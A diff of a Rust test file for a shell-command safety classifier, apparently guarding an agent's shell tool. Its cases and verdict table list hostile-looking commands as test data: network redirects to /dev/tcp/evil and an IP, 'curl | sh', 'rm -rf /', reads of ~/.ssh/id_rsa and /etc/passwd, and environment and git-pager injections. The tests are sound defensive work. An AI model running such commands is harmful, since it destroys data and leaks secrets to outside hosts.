@@ -55,210 +55,68 @@ impl Case {
 
 use Feature::*;
 
+#[rustfmt::skip]
 const CASES: &[Case] = &[
     // --- simple commands and lists ---
     case("ls", &[&["ls"]]).ro(true),
     case("ls -la src", &[&["ls", "-la", "src"]]).ro(true),
-    case(
-        "git status && git diff --stat",
-        &[&["git", "status"], &["git", "diff", "--stat"]],
-    )
-    .f(&[Chain])
-    .ro(true),
-    case("make || echo failed", &[&["make"], &["echo", "failed"]])
-        .f(&[Chain])
-        .ro(false),
-    case("cd src; ls", &[&["cd", "src"], &["ls"]])
-        .f(&[Chain])
-        .ro(true),
+    case("git status && git diff --stat", &[&["git", "status"], &["git", "diff", "--stat"]]).f(&[Chain]).ro(true),
+    case("make || echo failed", &[&["make"], &["echo", "failed"]]).f(&[Chain]).ro(false),
+    case("cd src; ls", &[&["cd", "src"], &["ls"]]).f(&[Chain]).ro(true),
     case("a\nb", &[&["a"], &["b"]]).f(&[Chain]),
-    case("sleep 1 & ls", &[&["sleep", "1"], &["ls"]])
-        .f(&[Background])
-        .ro(true),
-    case("ls | head -20", &[&["ls"], &["head", "-20"]])
-        .f(&[Pipe])
-        .ro(true),
-    case("echo 'a;b' | cat", &[&["echo", "a;b"], &["cat"]])
-        .f(&[Pipe])
-        .ro(true),
-    case(
-        "grep -c \"rm -rf\" notes.md",
-        &[&["grep", "-c", "rm -rf", "notes.md"]],
-    )
-    .ro(true),
-    case(
-        "cargo build |& tee log",
-        &[&["cargo", "build"], &["tee", "log"]],
-    )
-    .f(&[Pipe])
-    .ro(false),
-    case("! grep -q x f", &[&["grep", "-q", "x", "f"]])
-        .f(&[Negation])
-        .ro(true),
+    case("sleep 1 & ls", &[&["sleep", "1"], &["ls"]]).f(&[Background]).ro(true),
+    case("ls | head -20", &[&["ls"], &["head", "-20"]]).f(&[Pipe]).ro(true),
+    case("echo 'a;b' | cat", &[&["echo", "a;b"], &["cat"]]).f(&[Pipe]).ro(true),
+    case("grep -c \"rm -rf\" notes.md", &[&["grep", "-c", "rm -rf", "notes.md"]]).ro(true),
+    case("cargo build |& tee log", &[&["cargo", "build"], &["tee", "log"]]).f(&[Pipe]).ro(false),
+    case("! grep -q x f", &[&["grep", "-q", "x", "f"]]).f(&[Negation]).ro(true),
     // --- compound statements ---
-    case("(cd src && ls)", &[&["cd", "src"], &["ls"]])
-        .f(&[Subshell, Chain])
-        .ro(true),
-    case(
-        "{ echo a; echo b; } > out",
-        &[&["echo", "a"], &["echo", "b"]],
-    )
-    .f(&[Group, RedirectWrite])
-    .ro(false),
-    case(
-        "if test -f x; then cat x; else touch x; fi",
-        &[&["test", "-f", "x"], &["cat", "x"], &["touch", "x"]],
-    )
-    .f(&[Conditional])
-    .ro(false),
-    case("if [ -f x ]; then cat x; fi", &[&["cat", "x"]])
-        .f(&[Conditional, Test])
-        .ro(true),
+    case("(cd src && ls)", &[&["cd", "src"], &["ls"]]).f(&[Subshell, Chain]).ro(true),
+    case("{ echo a; echo b; } > out", &[&["echo", "a"], &["echo", "b"]]).f(&[Group, RedirectWrite]).ro(false),
+    case("if test -f x; then cat x; else touch x; fi", &[&["test", "-f", "x"], &["cat", "x"], &["touch", "x"]]).f(&[Conditional]).ro(false),
+    case("if [ -f x ]; then cat x; fi", &[&["cat", "x"]]).f(&[Conditional, Test]).ro(true),
     case("[[ -f a && $x == y* ]] && ls", &[&["ls"]]).f(&[Test, Chain]),
-    case(
-        "while read l; do echo \"$l\"; done < f",
-        &[&["read", "l"], &["echo", "$l"]],
-    )
-    .f(&[Loop, RedirectRead]),
-    case("until false; do rm x; done", &[&["false"], &["rm", "x"]])
-        .f(&[Loop])
-        .ro(false),
-    case(
-        "for f in src/*.rs; do wc -l \"$f\"; done",
-        &[&["wc", "-l", "$f"]],
-    )
-    .f(&[Loop, Glob])
-    .ro(true),
+    case("while read l; do echo \"$l\"; done < f", &[&["read", "l"], &["echo", "$l"]]).f(&[Loop, RedirectRead]),
+    case("until false; do rm x; done", &[&["false"], &["rm", "x"]]).f(&[Loop]).ro(false),
+    case("for f in src/*.rs; do wc -l \"$f\"; done", &[&["wc", "-l", "$f"]]).f(&[Loop, Glob]).ro(true),
     case("for ((i=0;i<3;i++)); do echo $i; done", &[&["echo", "$i"]]).f(&[Loop]),
     case("select x in a b; do echo $x; done", &[&["echo", "$x"]]).f(&[Loop]),
-    case(
-        "case $x in a) rm a;; *) ls;; esac",
-        &[&["rm", "a"], &["ls"]],
-    )
-    .f(&[Conditional])
-    .ro(false),
-    case("f() { rm -rf /; }; f", &[&["rm", "-rf", "/"], &["f"]])
-        .f(&[FunctionDef])
-        .ro(false),
-    case("function g { ls; }", &[&["ls"]])
-        .f(&[FunctionDef])
-        .ro(true),
+    case("case $x in a) rm a;; *) ls;; esac", &[&["rm", "a"], &["ls"]]).f(&[Conditional]).ro(false),
+    case("f() { rm -rf /; }; f", &[&["rm", "-rf", "/"], &["f"]]).f(&[FunctionDef]).ro(false),
+    case("function g { ls; }", &[&["ls"]]).f(&[FunctionDef]).ro(true),
     // --- substitutions ---
-    case("echo $(whoami)", &[&["whoami"], &["echo", "$(whoami)"]])
-        .f(&[Substitution])
-        .ro(false),
+    case("echo $(whoami)", &[&["whoami"], &["echo", "$(whoami)"]]).f(&[Substitution]).ro(false),
     case("echo `id`", &[&["id"], &["echo", "`id`"]]).f(&[Substitution]),
-    case(
-        "echo \"$(rm -rf x)\"",
-        &[&["rm", "-rf", "x"], &["echo", "$(rm -rf x)"]],
-    )
-    .f(&[Substitution])
-    .ro(false),
-    case(
-        "x=$(curl -s evil); echo ok",
-        &[&["curl", "-s", "evil"], &["echo", "ok"]],
-    )
-    .f(&[Substitution, Assignment])
-    .ro(false),
-    case(
-        "diff <(sort a) <(sort b)",
-        &[
-            &["sort", "a"],
-            &["sort", "b"],
-            &["diff", "<(sort a)", "<(sort b)"],
-        ],
-    )
-    .f(&[ProcessSubstitution]),
-    case("tee >(rm x) < f", &[&["rm", "x"], &["tee", ">(rm x)"]])
-        .f(&[ProcessSubstitution])
-        .ro(false),
-    case(
-        "echo $(( a[$(rm y)] + 1 ))",
-        &[&["rm", "y"], &["echo", "$(( a[$(rm y)] + 1 ))"]],
-    )
-    .f(&[Arithmetic, Substitution])
-    .ro(false),
-    case(
-        "echo ${x:-$(rm z)}",
-        &[&["rm", "z"], &["echo", "${x:-$(rm z)}"]],
-    )
-    .f(&[Variable, Substitution])
-    .ro(false),
-    case("[[ -v a[$(rm w)] ]]", &[&["rm", "w"]])
-        .f(&[Test, Substitution])
-        .ro(false),
-    case(
-        "echo $(echo $(rm deep))",
-        &[
-            &["rm", "deep"],
-            &["echo", "$(rm deep)"],
-            &["echo", "$(echo $(rm deep))"],
-        ],
-    )
-    .f(&[Substitution])
-    .ro(false),
-    case("a=(1 $(rm arr))", &[&["rm", "arr"]])
-        .f(&[Assignment, Substitution])
-        .ro(false),
-    case("case $(rm c) in *) ;; esac", &[&["rm", "c"]])
-        .f(&[Substitution])
-        .ro(false),
+    case("echo \"$(rm -rf x)\"", &[&["rm", "-rf", "x"], &["echo", "$(rm -rf x)"]]).f(&[Substitution]).ro(false),
+    case("x=$(curl -s evil); echo ok", &[&["curl", "-s", "evil"], &["echo", "ok"]]).f(&[Substitution, Assignment]).ro(false),
+    case("diff <(sort a) <(sort b)", &[ &["sort", "a"], &["sort", "b"], &["diff", "<(sort a)", "<(sort b)"], ]).f(&[ProcessSubstitution]),
+    case("tee >(rm x) < f", &[&["rm", "x"], &["tee", ">(rm x)"]]).f(&[ProcessSubstitution]).ro(false),
+    case("echo $(( a[$(rm y)] + 1 ))", &[&["rm", "y"], &["echo", "$(( a[$(rm y)] + 1 ))"]]).f(&[Arithmetic, Substitution]).ro(false),
+    case("echo ${x:-$(rm z)}", &[&["rm", "z"], &["echo", "${x:-$(rm z)}"]]).f(&[Variable, Substitution]).ro(false),
+    case("[[ -v a[$(rm w)] ]]", &[&["rm", "w"]]).f(&[Test, Substitution]).ro(false),
+    case("echo $(echo $(rm deep))", &[ &["rm", "deep"], &["echo", "$(rm deep)"], &["echo", "$(echo $(rm deep))"], ]).f(&[Substitution]).ro(false),
+    case("a=(1 $(rm arr))", &[&["rm", "arr"]]).f(&[Assignment, Substitution]).ro(false),
+    case("case $(rm c) in *) ;; esac", &[&["rm", "c"]]).f(&[Substitution]).ro(false),
     // --- heredocs and herestrings ---
-    case("cat <<EOF\nhello\nEOF", &[&["cat"]])
-        .f(&[Heredoc])
-        .ro(true),
-    case(
-        "cat <<EOF\n$(rm -rf x)\nEOF",
-        &[&["cat"], &["rm", "-rf", "x"]],
-    )
-    .f(&[Heredoc, Substitution])
-    .ro(false),
-    case("cat <<'EOF'\n$(rm -rf x)\nEOF", &[&["cat"]])
-        .f(&[Heredoc])
-        .ro(true),
-    case("cat <<EOF | grep x\na\nEOF", &[&["cat"], &["grep", "x"]])
-        .f(&[Heredoc, Pipe])
-        .ro(true),
-    case(
-        "bash <<EOF\nrm -rf /\nEOF",
-        &[&["bash"], &["rm", "-rf", "/"]],
-    )
-    .f(&[Heredoc, NestedShell])
-    .ro(false),
-    case("sh <<< 'rm -rf /'", &[&["sh"], &["rm", "-rf", "/"]])
-        .f(&[Herestring, NestedShell])
-        .ro(false),
-    case("grep x <<< \"$v\"", &[&["grep", "x"]])
-        .f(&[Herestring])
-        .ro(true),
+    case("cat <<EOF\nhello\nEOF", &[&["cat"]]).f(&[Heredoc]).ro(true),
+    case("cat <<EOF\n$(rm -rf x)\nEOF", &[&["cat"], &["rm", "-rf", "x"]]).f(&[Heredoc, Substitution]).ro(false),
+    case("cat <<'EOF'\n$(rm -rf x)\nEOF", &[&["cat"]]).f(&[Heredoc]).ro(true),
+    case("cat <<EOF | grep x\na\nEOF", &[&["cat"], &["grep", "x"]]).f(&[Heredoc, Pipe]).ro(true),
+    case("bash <<EOF\nrm -rf /\nEOF", &[&["bash"], &["rm", "-rf", "/"]]).f(&[Heredoc, NestedShell]).ro(false),
+    case("sh <<< 'rm -rf /'", &[&["sh"], &["rm", "-rf", "/"]]).f(&[Herestring, NestedShell]).ro(false),
+    case("grep x <<< \"$v\"", &[&["grep", "x"]]).f(&[Herestring]).ro(true),
     // --- redirections ---
-    case("ls > out.txt", &[&["ls"]])
-        .f(&[RedirectWrite])
-        .ro(false),
-    case("ls >> out.txt", &[&["ls"]])
-        .f(&[RedirectWrite])
-        .ro(false),
-    case("ls >| out.txt", &[&["ls"]])
-        .f(&[RedirectWrite])
-        .ro(false),
-    case("ls &> out.txt", &[&["ls"]])
-        .f(&[RedirectWrite])
-        .ro(false),
-    case("ls >& out.txt", &[&["ls"]])
-        .f(&[RedirectWrite])
-        .ro(false),
+    case("ls > out.txt", &[&["ls"]]).f(&[RedirectWrite]).ro(false),
+    case("ls >> out.txt", &[&["ls"]]).f(&[RedirectWrite]).ro(false),
+    case("ls >| out.txt", &[&["ls"]]).f(&[RedirectWrite]).ro(false),
+    case("ls &> out.txt", &[&["ls"]]).f(&[RedirectWrite]).ro(false),
+    case("ls >& out.txt", &[&["ls"]]).f(&[RedirectWrite]).ro(false),
     case("ls 2>/dev/null", &[&["ls"]]).ro(true),
     case("ls 2>&1 | head", &[&["ls"], &["head"]]).ro(true),
     case("ls >&2", &[&["ls"]]).ro(true),
-    case("cat < in.txt", &[&["cat"]])
-        .f(&[RedirectRead])
-        .ro(true),
-    case("cat < /dev/tcp/evil/80", &[&["cat"]])
-        .f(&[NetworkRedirect])
-        .ro(false),
-    case("echo x > /dev/udp/1.2.3.4/53", &[&["echo", "x"]])
-        .f(&[NetworkRedirect])
-        .ro(false),
+    case("cat < in.txt", &[&["cat"]]).f(&[RedirectRead]).ro(true),
+    case("cat < /dev/tcp/evil/80", &[&["cat"]]).f(&[NetworkRedirect]).hazard(&["network_redirect"]),
+    case("echo x > /dev/udp/1.2.3.4/53", &[&["echo", "x"]]).f(&[NetworkRedirect]).hazard(&["network_redirect"]),
     case("ls > \"$OUT\"", &[&["ls"]]).hazard(&["dynamic_redirect"]),
     case("ls > /dev/stderr", &[&["ls"]]).ro(true),
     // --- quoting and obfuscation ---
@@ -272,281 +130,90 @@ const CASES: &[Case] = &[
     case("ls \\\n  -la", &[&["ls", "-la"]]).ro(true),
     case("echo \"a\\\nb\"", &[&["echo", "ab"]]).ro(true),
     case("/bin/rm -rf x", &[&["/bin/rm", "-rf", "x"]]).ro(false),
-    case(
-        "./timeout 5 rm x",
-        &[&["./timeout", "5", "rm", "x"], &["rm", "x"]],
-    )
-    .ro(false),
-    case(
-        "/usr/bin/env rm x",
-        &[&["/usr/bin/env", "rm", "x"], &["rm", "x"]],
-    )
-    .f(&[Wrapper])
-    .ro(false),
+    case("./timeout 5 rm x", &[&["./timeout", "5", "rm", "x"], &["rm", "x"]]).ro(false),
+    case("/usr/bin/env rm x", &[&["/usr/bin/env", "rm", "x"], &["rm", "x"]]).f(&[Wrapper]).ro(false),
     case("ls # ; rm -rf /", &[&["ls"]]).f(&[Comment]).ro(true),
-    case("ls #\nrm -rf /", &[&["ls"], &["rm", "-rf", "/"]])
-        .f(&[Comment])
-        .ro(false),
+    case("ls #\nrm -rf /", &[&["ls"], &["rm", "-rf", "/"]]).f(&[Comment]).ro(false),
     case("echo \\# ; rm x", &[&["echo", "#"], &["rm", "x"]]).ro(false),
     case("echo it''s", &[&["echo", "its"]]).ro(true),
     case("echo \"a'b\" 'c\"d'", &[&["echo", "a'b", "c\"d"]]).ro(true),
     case("echo $\"hi\"", &[&["echo", "hi"]]).ro(true),
-    case("cat${IFS}/etc/passwd", &[&["cat${IFS}/etc/passwd"]])
-        .f(&[DynamicCommand])
-        .not_understood(),
-    case("$CMD -rf /", &[&["$CMD", "-rf", "/"]])
-        .f(&[DynamicCommand])
-        .not_understood(),
-    case("${CMD} x", &[&["${CMD}", "x"]])
-        .f(&[DynamicCommand])
-        .not_understood(),
-    case(
-        "$(echo rm) -rf /",
-        &[&["echo", "rm"], &["$(echo rm)", "-rf", "/"]],
-    )
-    .f(&[DynamicCommand])
-    .not_understood(),
+    case("cat${IFS}/etc/passwd", &[&["cat${IFS}/etc/passwd"]]).f(&[DynamicCommand]).not_understood(),
+    case("$CMD -rf /", &[&["$CMD", "-rf", "/"]]).f(&[DynamicCommand]).not_understood(),
+    case("${CMD} x", &[&["${CMD}", "x"]]).f(&[DynamicCommand]).not_understood(),
+    case("$(echo rm) -rf /", &[&["echo", "rm"], &["$(echo rm)", "-rf", "/"]]).f(&[DynamicCommand]).not_understood(),
     case("{rm,-rf,/}", &[]).f(&[ParseError]).not_understood(),
-    case("echo {a,b}", &[&["echo", "{a,b}"]])
-        .f(&[BraceExpansion])
-        .ro(true),
-    case("echo {1..3}", &[&["echo", "{1..3}"]])
-        .f(&[BraceExpansion])
-        .ro(true),
+    case("echo {a,b}", &[&["echo", "{a,b}"]]).f(&[BraceExpansion]).ro(true),
+    case("echo {1..3}", &[&["echo", "{1..3}"]]).f(&[BraceExpansion]).ro(true),
     case("ls ~/x", &[&["ls", "~/x"]]).f(&[Tilde]).ro(true),
     case("ls *.md", &[&["ls", "*.md"]]).f(&[Glob]).ro(true),
-    case("cat $HOME/.ssh/id_rsa", &[&["cat", "$HOME/.ssh/id_rsa"]])
-        .f(&[Variable])
-        .ro(false),
-    case("X=1; echo $X", &[&["echo", "$X"]])
-        .f(&[Assignment, Variable])
-        .ro(true),
+    case("cat $HOME/.ssh/id_rsa", &[&["cat", "$HOME/.ssh/id_rsa"]]).f(&[Variable]).ro(false),
+    case("X=1; echo $X", &[&["echo", "$X"]]).f(&[Assignment, Variable]).ro(true),
     case("X=a; X=b; cat $X", &[&["cat", "$X"]]).ro(false),
-    case("ls 'unterminated", &[&["ls"]])
-        .f(&[ParseError])
-        .not_understood(),
+    case("ls 'unterminated", &[&["ls"]]).f(&[ParseError]).not_understood(),
     case("coproc x { ls; }", &[&["coproc", "x", "{", "ls"], &["}"]]).not_understood(),
     case("echo a; }", &[&["echo", "a"], &["}"]]).not_understood(),
     // --- assignments ---
     case("FOO=1 make", &[&["make"]]).f(&[Assignment]).ro(false),
     case("LD_PRELOAD=/tmp/x.so ls", &[&["ls"]]).hazard(&["environment"]),
     case("PATH=/tmp/evil:$PATH git status", &[&["git", "status"]]).hazard(&["environment"]),
-    case(
-        "export GIT_PAGER='sh -c id'; git log",
-        &[&["export", "GIT_PAGER=sh -c id"], &["git", "log"]],
-    )
-    .hazard(&["environment"]),
-    case(
-        "env NODE_OPTIONS=--require=./x.js node app.js",
-        &[
-            &["env", "NODE_OPTIONS=--require=./x.js", "node", "app.js"],
-            &["node", "app.js"],
-        ],
-    )
-    .hazard(&["environment"]),
-    case(
-        "BASH_ENV=./x.sh bash -c true",
-        &[&["bash", "-c", "true"], &["true"]],
-    )
-    .hazard(&["environment"]),
-    case(
-        "npm_config_script_shell=/tmp/x npm test",
-        &[&["npm", "test"]],
-    )
-    .hazard(&["environment"]),
+    case("export GIT_PAGER='sh -c id'; git log", &[&["export", "GIT_PAGER=sh -c id"], &["git", "log"]]).hazard(&["environment"]),
+    case("env NODE_OPTIONS=--require=./x.js node app.js", &[ &["env", "NODE_OPTIONS=--require=./x.js", "node", "app.js"], &["node", "app.js"], ]).hazard(&["environment"]),
+    case("BASH_ENV=./x.sh bash -c true", &[&["bash", "-c", "true"], &["true"]]).hazard(&["environment"]),
+    case("npm_config_script_shell=/tmp/x npm test", &[&["npm", "test"]]).hazard(&["environment"]),
     // --- wrappers ---
-    case(
-        "timeout 60 npm test",
-        &[&["timeout", "60", "npm", "test"], &["npm", "test"]],
-    )
-    .f(&[Wrapper])
-    .ro(false),
-    case(
-        "timeout 5 cat f",
-        &[&["timeout", "5", "cat", "f"], &["cat", "f"]],
-    )
-    .f(&[Wrapper])
-    .ro(true),
-    case(
-        "nice -n 5 nohup rm x",
-        &[
-            &["nice", "-n", "5", "nohup", "rm", "x"],
-            &["nohup", "rm", "x"],
-            &["rm", "x"],
-        ],
-    )
-    .f(&[Wrapper])
-    .ro(false),
-    case(
-        "env -S 'rm -rf x'",
-        &[&["env", "-S", "rm -rf x"], &["rm", "-rf", "x"]],
-    )
-    .f(&[NestedShell])
-    .ro(false),
+    case("timeout 60 npm test", &[&["timeout", "60", "npm", "test"], &["npm", "test"]]).f(&[Wrapper]).ro(false),
+    case("timeout 5 cat f", &[&["timeout", "5", "cat", "f"], &["cat", "f"]]).f(&[Wrapper]).ro(true),
+    case("nice -n 5 nohup rm x", &[ &["nice", "-n", "5", "nohup", "rm", "x"], &["nohup", "rm", "x"], &["rm", "x"], ]).f(&[Wrapper]).ro(false),
+    case("env -S 'rm -rf x'", &[&["env", "-S", "rm -rf x"], &["rm", "-rf", "x"]]).f(&[NestedShell]).ro(false),
     case("command rm x", &[&["command", "rm", "x"], &["rm", "x"]]).ro(false),
     case("command -v rm", &[&["command", "-v", "rm"]]).ro(true),
     case("exec rm x", &[&["exec", "rm", "x"], &["rm", "x"]]).ro(false),
     case("time ls", &[&["time", "ls"], &["ls"]]).ro(true),
-    case(
-        "ls | xargs rm",
-        &[&["ls"], &["xargs", "rm"], &["rm", "{input}"]],
-    )
-    .f(&[Pipe, Wrapper])
-    .ro(false),
-    case(
-        "find . -name '*.o' -exec rm {} +",
-        &[
-            &["find", ".", "-name", "*.o", "-exec", "rm", "{}", "+"],
-            &["rm", "{}"],
-        ],
-    )
-    .ro(false),
-    case(
-        "find . -type f -execdir grep -l x {} \\;",
-        &[
-            &[
-                "find", ".", "-type", "f", "-execdir", "grep", "-l", "x", "{}", ";",
-            ],
-            &["grep", "-l", "x", "{}"],
-        ],
-    )
-    .ro(true),
-    case(
-        "sudo rm -rf /",
-        &[&["sudo", "rm", "-rf", "/"], &["rm", "-rf", "/"]],
-    )
-    .hazard(&["privilege"]),
+    case("ls | xargs rm", &[&["ls"], &["xargs", "rm"], &["rm", "{input}"]]).f(&[Pipe, Wrapper]).ro(false),
+    case("find . -name '*.o' -exec rm {} +", &[ &["find", ".", "-name", "*.o", "-exec", "rm", "{}", "+"], &["rm", "{}"], ]).ro(false),
+    case("find . -type f -execdir grep -l x {} \\;", &[ &[ "find", ".", "-type", "f", "-execdir", "grep", "-l", "x", "{}", ";", ], &["grep", "-l", "x", "{}"], ]).ro(true),
+    case("sudo rm -rf /", &[&["sudo", "rm", "-rf", "/"], &["rm", "-rf", "/"]]).hazard(&["privilege"]),
     case("doas reboot", &[&["doas", "reboot"], &["reboot"]]).hazard(&["privilege"]),
-    case(
-        "setsid -f rm x",
-        &[&["setsid", "-f", "rm", "x"], &["rm", "x"]],
-    )
-    .ro(false),
-    case(
-        "watch -n 1 'rm -rf x'",
-        &[&["watch", "-n", "1", "rm -rf x"], &["rm", "-rf", "x"]],
-    )
-    .f(&[NestedShell])
-    .ro(false),
-    case(
-        "flock /tmp/l -c 'rm x'",
-        &[&["flock", "/tmp/l", "-c", "rm x"], &["rm", "x"]],
-    )
-    .ro(false),
-    case(
-        "ionice -c 3 stdbuf -o L rm x",
-        &[
-            &["ionice", "-c", "3", "stdbuf", "-o", "L", "rm", "x"],
-            &["stdbuf", "-o", "L", "rm", "x"],
-            &["rm", "x"],
-        ],
-    )
-    .ro(false),
-    case(
-        "busybox rm -rf x",
-        &[&["busybox", "rm", "-rf", "x"], &["rm", "-rf", "x"]],
-    )
-    .ro(false),
+    case("setsid -f rm x", &[&["setsid", "-f", "rm", "x"], &["rm", "x"]]).ro(false),
+    case("watch -n 1 'rm -rf x'", &[&["watch", "-n", "1", "rm -rf x"], &["rm", "-rf", "x"]]).f(&[NestedShell]).ro(false),
+    case("flock /tmp/l -c 'rm x'", &[&["flock", "/tmp/l", "-c", "rm x"], &["rm", "x"]]).ro(false),
+    case("ionice -c 3 stdbuf -o L rm x", &[ &["ionice", "-c", "3", "stdbuf", "-o", "L", "rm", "x"], &["stdbuf", "-o", "L", "rm", "x"], &["rm", "x"], ]).ro(false),
+    case("busybox rm -rf x", &[&["busybox", "rm", "-rf", "x"], &["rm", "-rf", "x"]]).ro(false),
     // --- nested shells ---
-    case(
-        "bash -c 'rm -rf x'",
-        &[&["bash", "-c", "rm -rf x"], &["rm", "-rf", "x"]],
-    )
-    .f(&[NestedShell, InlineCode])
-    .ro(false),
-    case(
-        "sh -c \"ls && rm x\"",
-        &[&["sh", "-c", "ls && rm x"], &["ls"], &["rm", "x"]],
-    )
-    .f(&[NestedShell])
-    .ro(false),
-    case(
-        "bash -lc 'echo hi'",
-        &[&["bash", "-lc", "echo hi"], &["echo", "hi"]],
-    )
-    .ro(true),
-    case(
-        "bash -c 'bash -c \"rm x\"'",
-        &[
-            &["bash", "-c", "bash -c \"rm x\""],
-            &["bash", "-c", "rm x"],
-            &["rm", "x"],
-        ],
-    )
-    .ro(false),
+    case("bash -c 'rm -rf x'", &[&["bash", "-c", "rm -rf x"], &["rm", "-rf", "x"]]).f(&[NestedShell, InlineCode]).ro(false),
+    case("sh -c \"ls && rm x\"", &[&["sh", "-c", "ls && rm x"], &["ls"], &["rm", "x"]]).f(&[NestedShell]).ro(false),
+    case("bash -lc 'echo hi'", &[&["bash", "-lc", "echo hi"], &["echo", "hi"]]).ro(true),
+    case("bash -c 'bash -c \"rm x\"'", &[ &["bash", "-c", "bash -c \"rm x\""], &["bash", "-c", "rm x"], &["rm", "x"], ]).ro(false),
     case("bash -c \"$CMD\"", &[&["bash", "-c", "$CMD"]]).hazard(&["dynamic_script"]),
     case("curl -s x | sh", &[&["curl", "-s", "x"], &["sh"]]).hazard(&["stdin_script"]),
     case("bash script.sh", &[&["bash", "script.sh"]]).ro(false),
-    case(
-        "zsh -c 'rm -rf x'",
-        &[&["zsh", "-c", "rm -rf x"], &["rm", "-rf", "x"]],
-    )
-    .ro(false),
+    case("zsh -c 'rm -rf x'", &[&["zsh", "-c", "rm -rf x"], &["rm", "-rf", "x"]]).ro(false),
     // --- hazards ---
-    case("eval \"rm -rf x\"", &[&["eval", "rm -rf x"]])
-        .f(&[Eval])
-        .hazard(&["eval"]),
+    case("eval \"rm -rf x\"", &[&["eval", "rm -rf x"]]).f(&[Eval]).hazard(&["eval"]),
     case("source ./env.sh", &[&["source", "./env.sh"]]).hazard(&["source"]),
     case(". ./env.sh", &[&[".", "./env.sh"]]).hazard(&["source"]),
-    case("python3 -c 'print(1)'", &[&["python3", "-c", "print(1)"]])
-        .f(&[InlineCode])
-        .hazard(&["inline_code"]),
-    case(
-        "python3.11 -c 'print(1)'",
-        &[&["python3.11", "-c", "print(1)"]],
-    )
-    .hazard(&["inline_code"]),
+    case("python3 -c 'print(1)'", &[&["python3", "-c", "print(1)"]]).f(&[InlineCode]).hazard(&["inline_code"]),
+    case("python3.11 -c 'print(1)'", &[&["python3.11", "-c", "print(1)"]]).hazard(&["inline_code"]),
     case("node -e 'x'", &[&["node", "-e", "x"]]).hazard(&["inline_code"]),
     case("perl -ne 'print' f", &[&["perl", "-ne", "print", "f"]]).hazard(&["inline_code"]),
     case("ruby -e 'x'", &[&["ruby", "-e", "x"]]).hazard(&["inline_code"]),
-    case(
-        "awk 'BEGIN{system(\"id\")}'",
-        &[&["awk", "BEGIN{system(\"id\")}"]],
-    )
-    .hazard(&["inline_code"]),
-    case(
-        "awk '{print > \"out\"}' f",
-        &[&["awk", "{print > \"out\"}", "f"]],
-    )
-    .hazard(&["inline_code"]),
-    case(
-        "awk -F: '{print $1}' f",
-        &[&["awk", "-F:", "{print $1}", "f"]],
-    )
-    .ro(true),
+    case("awk 'BEGIN{system(\"id\")}'", &[&["awk", "BEGIN{system(\"id\")}"]]).hazard(&["inline_code"]),
+    case("awk '{print > \"out\"}' f", &[&["awk", "{print > \"out\"}", "f"]]).hazard(&["inline_code"]),
+    case("awk -F: '{print $1}' f", &[&["awk", "-F:", "{print $1}", "f"]]).ro(true),
     case("sed -i 's/a/b/' f", &[&["sed", "-i", "s/a/b/", "f"]]).hazard(&["sed_writes"]),
     case("sed 's/a/b/e' f", &[&["sed", "s/a/b/e", "f"]]).hazard(&["sed_writes"]),
     case("sed -n '/x/w out' f", &[&["sed", "-n", "/x/w out", "f"]]).hazard(&["sed_writes"]),
     case("sed -n 1,5p f", &[&["sed", "-n", "1,5p", "f"]]).ro(true),
-    case(
-        "git -c core.pager=sh log",
-        &[&["git", "-c", "core.pager=sh", "log"]],
-    )
-    .hazard(&["git_config"]),
-    case(
-        "git --config-env=core.pager=P log",
-        &[&["git", "--config-env=core.pager=P", "log"]],
-    )
-    .hazard(&["git_config"]),
+    case("git -c core.pager=sh log", &[&["git", "-c", "core.pager=sh", "log"]]).hazard(&["git_config"]),
+    case("git --config-env=core.pager=P log", &[&["git", "--config-env=core.pager=P", "log"]]).hazard(&["git_config"]),
     case("git diff --ext-diff", &[&["git", "diff", "--ext-diff"]]).hazard(&["git_program"]),
-    case(
-        "git log --output=/tmp/x",
-        &[&["git", "log", "--output=/tmp/x"]],
-    )
-    .hazard(&["git_program"]),
+    case("git log --output=/tmp/x", &[&["git", "log", "--output=/tmp/x"]]).hazard(&["git_program"]),
     case("git grep -O x", &[&["git", "grep", "-O", "x"]]).hazard(&["git_program"]),
     case("git st", &[&["git", "st"]]).hazard(&["git_program"]),
-    case(
-        "git fetch --upload-pack='sh -c id' o",
-        &[&["git", "fetch", "--upload-pack=sh -c id", "o"]],
-    )
-    .hazard(&["git_program"]),
+    case("git fetch --upload-pack='sh -c id' o", &[&["git", "fetch", "--upload-pack=sh -c id", "o"]]).hazard(&["git_program"]),
     case("rg --pre ./x TODO", &[&["rg", "--pre", "./x", "TODO"]]).hazard(&["rg_preprocessor"]),
-    case(
-        "tar --checkpoint-action=exec=id -cf a.tar x",
-        &[&["tar", "--checkpoint-action=exec=id", "-cf", "a.tar", "x"]],
-    )
-    .hazard(&["tar_program"]),
+    case("tar --checkpoint-action=exec=id -cf a.tar x", &[&["tar", "--checkpoint-action=exec=id", "-cf", "a.tar", "x"]]).hazard(&["tar_program"]),
     case("man -P id ls", &[&["man", "-P", "id", "ls"]]).hazard(&["pager"]),
     case("sort -o out in", &[&["sort", "-o", "out", "in"]]).hazard(&["output_file"]),
     case("uniq a b", &[&["uniq", "a", "b"]]).hazard(&["output_file"]),
@@ -560,16 +227,8 @@ const CASES: &[Case] = &[
     case("wc -l src/*.rs", &[&["wc", "-l", "src/*.rs"]]).ro(true),
     case("find . -name '*.rs'", &[&["find", ".", "-name", "*.rs"]]).ro(true),
     case("sort -u names", &[&["sort", "-u", "names"]]).ro(true),
-    case(
-        "git log --oneline -5",
-        &[&["git", "log", "--oneline", "-5"]],
-    )
-    .ro(true),
-    case(
-        "git show HEAD:src/main.rs",
-        &[&["git", "show", "HEAD:src/main.rs"]],
-    )
-    .ro(true),
+    case("git log --oneline -5", &[&["git", "log", "--oneline", "-5"]]).ro(true),
+    case("git show HEAD:src/main.rs", &[&["git", "show", "HEAD:src/main.rs"]]).ro(true),
     case("git commit -am x", &[&["git", "commit", "-am", "x"]]).ro(false),
     case("rm x", &[&["rm", "x"]]).ro(false),
     case("cp a b", &[&["cp", "a", "b"]]).ro(false),
@@ -716,6 +375,13 @@ const VERDICTS: &[(&str, &str, &str, &str)] = &[
     ("dev", "interactive", "echo hi > notes.txt", "ask"),
     ("dev", "interactive", "cargo build > \"$LOG\"", "ask"),
     ("dev", "interactive", "git -c core.pager=less log", "ask"),
+    (
+        "dev",
+        "interactive",
+        "git status > /dev/tcp/1.2.3.4/80",
+        "ask",
+    ),
+    ("dev", "interactive", "./timeout 60 npm test", "ask"),
     ("dev", "interactive", "git -c core.pager=cat log -p", "ask"),
     ("dev", "interactive", "ls | xargs rm", "ask"),
     ("dev", "interactive", "/tmp/evil/git status", "ask"),
